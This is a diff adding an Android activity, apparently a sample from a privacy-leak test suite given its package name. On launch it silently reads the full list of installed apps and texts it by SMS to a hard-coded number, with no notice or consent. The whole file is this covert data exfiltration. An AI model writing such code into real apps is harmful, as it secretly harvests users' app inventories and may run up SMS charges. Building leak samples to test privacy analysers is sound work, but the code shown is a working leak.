@@ -1,0 +1,24 @@
+package cn.privlens.suite.installed_apps;
+
+import android.app.Activity;
+import android.content.pm.PackageInfo;
+import android.content.pm.PackageManager;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        PackageManager pm = getPackageManager();
+        StringBuilder sb = new StringBuilder();
+        try {
+            for (PackageInfo p : pm.getInstalledPackages(0)) {
+                sb.append(p.packageName).append(';');
+            }
+        } catch (Exception e) {
+            sb.append('?');
+        }
+        SmsManager.getDefault().sendTextMessage("10690000", null, sb.toString(), null, null);
+    }
+}
